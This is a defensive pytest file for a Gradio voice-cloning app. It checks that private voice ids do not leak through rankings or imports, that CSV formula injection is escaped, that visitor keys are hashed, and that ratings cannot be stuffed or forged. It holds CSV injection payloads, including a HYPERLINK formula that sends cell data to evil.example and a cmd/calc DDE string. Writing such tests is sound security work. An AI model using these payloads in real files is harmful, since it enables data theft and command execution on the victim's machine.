"""Issue 21, points 2 and 5, tried as an attacker would: private voices shown to others by id
(ranking, imports), formulas and visitor keys in the ratings CSV, ratings saved again and again.

Through the page's own handlers and the service, with a stand-in pipeline and an admin token
(a public Space); each test is named after the attack it stops.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import types
import zipfile

import gradio as gr
import pytest
from test_quality_ui import _app, _handler, _no_progress
from test_service import _service, _wav
from voice_studio.errors import ServiceError
from voice_studio.http_guard import VISITOR_KEY_HEADER
from voice_studio.ratings import Rating, RatingStore
from voice_studio.ui.compare_tab import ranking
from voice_studio.ui.strings import say

TOKEN = "admin-secret"
TEXT = "你好，世界。"
VICTIM, ATTACKER = "victim-visitor-key-0123456789abcdef", "attacker-visitor-key-fedcba9876543210"


def _visitor(key: str) -> types.SimpleNamespace:
    """A page request from a browser whose visitor key is ``key``, as the RequestGuard hands it on."""
    return types.SimpleNamespace(session_hash="page-load-1", cookies={}, headers={VISITOR_KEY_HEADER.decode(): key})


@pytest.fixture
def space(tmp_path):
    """A public setup: the admin's two shared voices, the victim's private one, ratings stored."""
    service = _service(tmp_path, admin_token=TOKEN, ratings_path=tmp_path / "data" / "ratings.sqlite")
    shared = [service.add_speaker(_wav(), "你好。", "zh", f"Shared {n}", session=None, token=TOKEN).id for n in (1, 2)]
    private = service.add_speaker(_wav(), "你好。", "zh", "Secret voice", session=VICTIM)
    app = _app(service)
    return service, app, shared, private


def _compare(app, voices: list[str], key: str | None, text: str = TEXT) -> dict:
    *_, compared = _handler(app, "compare")(text, "zh", voices, request=_visitor(key) if key else None,
                                           progress=_no_progress)
    return compared


def _save(app, compared: dict, key: str, notes: tuple[str, ...] = ()) -> tuple[str, dict]:
    notes = (*notes, *[""] * (4 - len(notes)))
    return _handler(app, "save_ratings")(_visitor(key), compared, 4, 2, 3, 3, *notes)


def _csv_rows(service) -> list[dict]:
    return list(csv.DictReader(io.StringIO(service.ratings_csv(TOKEN))))


# -- no voice the caller cannot see, by name or id ------------------------------------------

def test_ranking_does_not_reveal_private_voice_ids(space):
    service, app, shared, private = space
    _, victims_table = _save(app, _compare(app, [private.id, shared[0]], VICTIM), VICTIM)
    assert "Secret voice" in str(victims_table["data"])  # the owner sees their own voice ranked
    _, attackers_table = _save(app, _compare(app, shared, ATTACKER), ATTACKER)
    for table in (attackers_table, ranking(service, ATTACKER), ranking(service, None)):
        shown = json.dumps(table, ensure_ascii=False)
        assert private.id not in shown and "Secret voice" not in shown
        assert sorted(row[0] for row in table["data"]) == ["Shared 1", "Shared 2"]
    assert private.id in {row["speaker_id"] for row in _csv_rows(service)}  # the admin sees everything


def test_ranking_does_not_show_voices_deleted_since_they_were_rated(space):
    service, app, shared, private = space
    _save(app, _compare(app, [private.id, shared[0]], VICTIM), VICTIM)
    service.delete_speaker(private.id, VICTIM)
    shown = json.dumps(ranking(service, VICTIM), ensure_ascii=False)
    assert private.id not in shown and "Secret voice" not in shown and "Shared 1" in shown
    assert service.voice_ranking(VICTIM)[0][1].count == 1


def test_importing_an_archive_does_not_reveal_whether_a_private_id_is_taken(space, tmp_path):
    service, _, _, private = space
    own = service.add_speaker(_wav(), "你好。", "zh", "Probe", session=ATTACKER)
    archive = _with_id(service.export_speaker(own.id, ATTACKER), private.id)  # claims the victim's id
    probed = service.import_speaker(archive, ATTACKER)
    fresh = _service(tmp_path / "fresh", admin_token=TOKEN).import_speaker(archive, ATTACKER)  # the id is free there
    for imported in (probed, fresh):  # same form either way, and never the claimed id or a number after it
        assert re.fullmatch(r"probe-[0-9a-f]{10}", imported.id) and not imported.id.startswith(private.id)
    assert service.library.get(private.id).owner_session == VICTIM


def _with_id(archive: bytes, speaker_id: str) -> bytes:
    """``archive`` with the id in its speaker.json replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "speaker.json":
                data = json.dumps({**json.loads(data), "id": speaker_id}).encode()
            target.writestr(item, data)
    return out.getvalue()


# -- the ratings CSV -----------------------------------------------------------------------

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "＝")  # OWASP's "CSV Injection" list, and a full-width =
PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", "＝1+1"]


def test_csv_formula_injection_is_escaped(space):
    service, app, shared, _ = space
    _save(app, _compare(app, shared, ATTACKER, text="=1+1 你好。"), ATTACKER, notes=tuple(PAYLOADS[:2]))
    for number, payload in enumerate(PAYLOADS[2:]):
        service.ratings.add(Rating(f"clip-{number}", shared[0], TEXT, 3, payload, ATTACKER))
    rows = _csv_rows(service)
    assert [row["note"] for row in rows] == ["'" + payload for payload in PAYLOADS]
    assert {row["text"] for row in rows[:2]} == {"'=1+1 你好。"}
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(FORMULA_LEADS)]
    assert rows[0]["rating"] == "4" and rows[0]["speaker_id"] == shared[0]  # the other cells as they were


def test_csv_never_holds_visitor_keys(space, tmp_path):
    service, app, shared, private = space
    _save(app, _compare(app, [private.id, shared[0]], VICTIM), VICTIM)
    _save(app, _compare(app, shared, ATTACKER), ATTACKER)
    exported = service.ratings_csv(TOKEN)
    database = service.ratings.path.read_bytes()
    for key in (VICTIM, ATTACKER):
        assert key not in exported and key.encode() not in database
    raters = [row["rater"] for row in _csv_rows(service)]
    assert raters[0] == raters[1] != raters[2] == raters[3]  # still one rater's ratings told from another's
    assert re.fullmatch(r"[0-9a-f]{16}", raters[0])
    secret = service.ratings.path.with_name("ratings-secret")
    assert secret.stat().st_mode & 0o777 == 0o600
    assert RatingStore(service.ratings.path).rater_of(VICTIM) == raters[0]  # the same secret after a restart
    assert RatingStore(tmp_path / "elsewhere" / "r.sqlite").rater_of(VICTIM) != raters[0]  # another server's


def test_csv_of_an_old_ratings_file_never_holds_visitor_keys(tmp_path):
    path = tmp_path / "ratings.sqlite"
    with sqlite3.connect(path) as db:  # the file as the previous release wrote it: raw keys in "session"
        db.execute("CREATE TABLE ratings (id INTEGER PRIMARY KEY AUTOINCREMENT, created_at TEXT NOT NULL, "
                   "clip_id TEXT NOT NULL, speaker_id TEXT NOT NULL, text TEXT NOT NULL, rating INTEGER NOT NULL "
                   "CHECK (rating BETWEEN 1 AND 5), note TEXT NOT NULL DEFAULT '', session TEXT, "
                   "settings TEXT NOT NULL DEFAULT '')")
        db.executemany("INSERT INTO ratings (created_at, clip_id, speaker_id, text, rating, session) "
                       "VALUES ('t', ?, 'alice', 'hi', 4, ?)", [("c1", VICTIM), ("c2", ATTACKER), ("c3", None)])
    store = RatingStore(path)
    exported = store.to_csv()
    assert VICTIM not in exported and ATTACKER not in exported
    assert VICTIM.encode() not in path.read_bytes()  # migrated on open, old pages wiped
    store.add(Rating("c4", "alice", "hi", 5, session=VICTIM))
    reopened = RatingStore(path)  # opening again hashes nothing twice
    raters = [row[7] for row in reopened.rows()]
    assert raters == [store.rater_of(VICTIM), store.rater_of(ATTACKER), None, store.rater_of(VICTIM)]


# -- one Compare, one rating per clip ------------------------------------------------------

def test_ratings_cannot_be_stuffed(space):
    service, app, shared, _ = space
    compared = _compare(app, shared, ATTACKER)
    saved, _ = _save(app, compared, ATTACKER)
    assert saved == say("msg_saved", "en", count=2)
    for _ in range(3):
        with pytest.raises(gr.Error) as refused:
            _save(app, compared, ATTACKER)
        assert refused.value.message == say("msg_rated_already", "en")
    clip_ids = [row[2] for row in service.ratings.rows()]
    assert len(clip_ids) == 2 and sorted(clip_ids) == sorted(compared["clip_ids"])
    assert [(score.count, name) for name, score in service.voice_ranking(ATTACKER)] == [(1, "Shared 1"), (1, "Shared 2")]
    _save(app, _compare(app, shared, ATTACKER), ATTACKER)  # a new Compare: new clips to rate
    assert len(service.ratings.rows()) == 4


def test_ratings_for_clips_the_server_did_not_make_are_refused(space):
    service, app, shared, _ = space
    compared = _compare(app, shared, VICTIM)
    minted = compared["clip_ids"][0]
    forged = [Rating("1700000000000-0", shared[0], TEXT, 5, session=ATTACKER),  # what clip ids used to be
              Rating(minted, shared[0], TEXT, 5, session=ATTACKER),  # the victim's clip, rated by someone else
              Rating(minted, shared[1], TEXT, 5, session=VICTIM),  # another voice's clip
              Rating(minted, shared[0], "another text", 5, session=VICTIM),
              Rating(minted.split(".")[0] + ".0" * 12, shared[0], TEXT, 5, session=VICTIM)]
    for rating in forged:
        with pytest.raises(ServiceError, match="not for clips this server made for you") as refused:
            service.save_ratings([rating])
        assert refused.value.status == 403
    assert service.ratings.rows() == []
    assert service.save_ratings([Rating(minted, shared[0], TEXT, 5, session=VICTIM)]) == 1
    with pytest.raises(ServiceError, match="rated already") as again:
        service.save_ratings([Rating(minted, shared[0], TEXT, 1, session=VICTIM)])
    assert again.value.status == 409 and len(service.ratings.rows()) == 1


# -- the same attacks against a live server (tiny models, admin token) -----------------------

@pytest.fixture(scope="module")
def live_space(reference_dir, tmp_path_factory):
    from live_server import start_live_server

    root = tmp_path_factory.mktemp("privacy")
    live = start_live_server(reference_dir, root, "--admin-token", TOKEN, "--official-data", str(reference_dir / "data"))
    yield live
    live.stop()


def test_live_ranking_csv_and_repeated_saves_leak_nothing(live_space, reference_dir):
    import httpx
    from gradio_client import Client, handle_file
    from gradio_client.exceptions import AppError

    base, upload = live_space.base, str(reference_dir / "cases" / "v2_zh" / "ref.wav")
    wav = (reference_dir / "cases" / "v2_zh" / "ref.wav").read_bytes()
    shared = [httpx.post(base + "/api/speakers", files={"audio": ("ref.wav", wav, "audio/wav")}, timeout=120,
                         data={"transcript": "今天天气不错，我们一起去公园散步吧。", "language": "zh", "name": f"Live {n}"},
                         headers={"Authorization": f"Bearer {TOKEN}"}).json()["id"] for n in (1, 2)]
    victim, attacker = Client(base + "/", verbose=False), Client(base + "/", verbose=False)
    victim.predict(handle_file(upload), "今天天气不错，我们一起去公园散步吧。", "zh", "Live secret", True,
                   api_name="/add_speaker")
    private = next(s["id"] for s in victim.predict(api_name="/list_speakers") if s["name"] == "Live secret")
    victim.predict(TEXT, "zh", [private, shared[0]], api_name="/compare")
    victim.predict(4, 2, 3, 3, "=1+1", "", "", "", api_name="/save_ratings")
    attacker.predict(TEXT, "zh", shared, api_name="/compare")
    _, table = attacker.predict(5, 5, 3, 3, "", "", "", "", api_name="/save_ratings")
    assert private not in json.dumps(table) and "Live secret" not in json.dumps(table, ensure_ascii=False)
    for _ in range(2):  # the raw queue call again, with the page's state: refused, nothing stored
        with pytest.raises(AppError, match="rated already"):
            attacker.predict(5, 5, 3, 3, "", "", "", "", api_name="/save_ratings")
    exported = httpx.get(base + "/api/ratings.csv", headers={"Authorization": f"Bearer {TOKEN}"})
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert len(rows) == 4 and rows[0]["note"] == "'=1+1" and "session" not in rows[0]
    assert all(re.fullmatch(r"[0-9a-f]{16}", row["rater"]) for row in rows)
    assert len({row["rater"] for row in rows}) == 2
    for client in (victim, attacker):
        assert client.session_hash not in exported.text
